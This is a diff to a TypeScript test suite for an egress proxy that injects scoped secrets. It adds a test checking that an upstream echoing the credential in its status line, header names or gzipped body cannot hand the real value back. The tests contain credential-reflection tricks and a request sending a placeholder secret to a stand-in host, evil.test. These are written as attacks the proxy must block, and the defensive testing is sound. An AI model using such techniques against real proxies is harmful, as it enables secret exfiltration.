@@ -7,6 +7,7 @@ import { connect, createServer, type Server as NetServer, type Socket } from "no
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { connect as tlsConnect } from "node:tls";
+import { gunzipSync, gzipSync } from "node:zlib";
 import { after, before, describe, it } from "node:test";
 import { LeafCertificates, mintCertificateAuthority } from "../src/network/egress-ca.js";
 import { egressNetwork } from "../src/network/egress-launch.js";
@@ -37,6 +38,16 @@ function recording(received: Received[], answer: (req: IncomingMessage, r: Recei
       answer(req, r, res);
     });
   };
+}
+
+/** An API that reflects the credential it got: in its reason phrase, a header name, and a body gzipped when the client accepts it. */
+function reflect(req: IncomingMessage, r: Received, res: ServerResponse): void {
+  const auth = String(r.headers.authorization ?? "none");
+  const token = auth.replace(/^Bearer /, "");
+  const body = Buffer.from(`you sent ${auth}\n`);
+  const gzip = /gzip/.test(String(req.headers["accept-encoding"] ?? ""));
+  res.writeHead(200, `OK ${auth}`, { [`x-echo-${token}`]: "1", ...(gzip ? { "content-encoding": "gzip" } : {}) });
+  res.end(gzip ? gzipSync(body) : body);
 }
 
 describe("egress proxy with scoped secrets under attack (real processes, loopback servers)", () => {
@@ -92,7 +103,7 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
     upstreamCaPath = join(dir, "upstream-ca.pem");
     await writeFile(upstreamCaPath, upstreamCa.certPem);
     const leaves = await LeafCertificates.load(upstreamCa);
-    tlsUpstream = createHttpsServer({ SNICallback: (n, done) => void leaves.contextFor(n || "127.0.0.1").then((c) => done(null, c), done) }, recording(received, (_req, _r, res) => res.end("ok\n")));
+    tlsUpstream = createHttpsServer({ SNICallback: (n, done) => void leaves.contextFor(n || "127.0.0.1").then((c) => done(null, c), done) }, recording(received, reflect));
     plainUpstream = createHttpServer(recording(received, (_req, _r, res) => res.end("ok\n")));
     await new Promise<void>((r) => tlsUpstream.listen(0, "127.0.0.1", () => r()));
     await new Promise<void>((r) => plainUpstream.listen(0, "127.0.0.1", () => r()));
@@ -155,6 +166,23 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
     });
   }
 
+  /** The body of a single non-chunked or chunked HTTP/1.1 response, de-chunked. */
+  function responseBody(answer: Buffer): Buffer {
+    const split = answer.indexOf("\r\n\r\n");
+    const head = answer.subarray(0, split).toString("latin1");
+    let rest = answer.subarray(split + 4);
+    if (!/transfer-encoding: chunked/i.test(head)) return rest;
+    const parts: Buffer[] = [];
+    for (;;) {
+      const eol = rest.indexOf("\r\n");
+      const size = parseInt(rest.subarray(0, eol).toString("latin1"), 16);
+      if (!size) break;
+      parts.push(rest.subarray(eol + 2, eol + 2 + size));
+      rest = rest.subarray(eol + 2 + size + 2);
+    }
+    return Buffer.concat(parts);
+  }
+
   it("never writes a value into a cleartext (http://) request, even to the secret's own host, unless the workspace opts in", async () => {
     const proxy = await startProxy("default");
     const before = received.length;
@@ -171,6 +199,19 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
     // The opt-in widens transport, never scope.
     const elsewhere = await plainThroughProxy(optedIn.socket, `GET http://evil.test:${plainPort}/x HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
     assert.match(elsewhere, /^HTTP\/1\.1 403 [\s\S]*not to evil\.test/);
+  });
+
+  it("does not hand the value back in an upstream's reason phrase, header names or gzipped body", async () => {
+    const proxy = await startProxy("reflect");
+    const answer = await httpsThroughProxy(proxy.socket, "api.test", `GET /echo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`);
+    assert.equal(received.at(-1)?.headers.authorization, `Bearer ${VALUE}`, "the request itself was substituted");
+    const head = answer.subarray(0, answer.indexOf("\r\n\r\n")).toString("latin1");
+    assert.match(head, /^HTTP\/1\.1 200/);
+    assert.ok(!head.includes(VALUE), `no value in the response head: ${head}`);
+    const body = responseBody(answer);
+    const text = /content-encoding: gzip/i.test(head) ? gunzipSync(body).toString("latin1") : body.toString("latin1");
+    assert.ok(!text.includes(VALUE), `no value in the (decoded) body: ${text}`);
+    assert.ok(text.includes(PLACEHOLDER), "the echo comes back with the placeholder");
   });
 
   it("starts the proxy with values over plain http only for a workspace that opted in", async () => {
